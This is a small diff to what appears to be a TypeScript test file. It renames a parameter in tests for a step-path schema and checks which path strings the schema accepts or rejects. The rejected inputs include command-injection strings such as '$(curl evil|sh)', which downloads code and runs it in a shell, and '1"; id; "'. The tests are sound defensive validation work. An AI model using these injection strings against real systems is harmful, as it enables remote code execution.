@@ -2,11 +2,11 @@ import { stepPathSchema } from './run-question.schema.ts';
 
 test.each(['2', '3[2]/1', '3/catch/1', '4/else/2', '5/finally/1', '3/if', '3[1]/until', '3[1]/more', '3[1]/next'])(
   '%s is where a step stands, of a run or of a branch',
-  (place) => {
-    for (const at of [place, `7/on_the_Left/${place}`]) expect(stepPathSchema.parse(at)).toBe(at);
+  (path) => {
+    for (const at of [path, `7/on_the_Left/${path}`]) expect(stepPathSchema.parse(at)).toBe(at);
   },
 );
 
-test.each(['$(curl evil|sh)', '`id`', '1"; id; "', "1' 2", '1\\', '1\n2', '1\u001b[2J'])('%j is not', (at) => {
-  expect(stepPathSchema.safeParse(at).success).toBe(false);
+test.each(['$(curl evil|sh)', '`id`', '1"; id; "', "1' 2", '1\\', '1\n2', '1\u001b[2J'])('%j is not', (path) => {
+  expect(stepPathSchema.safeParse(path).success).toBe(false);
 });
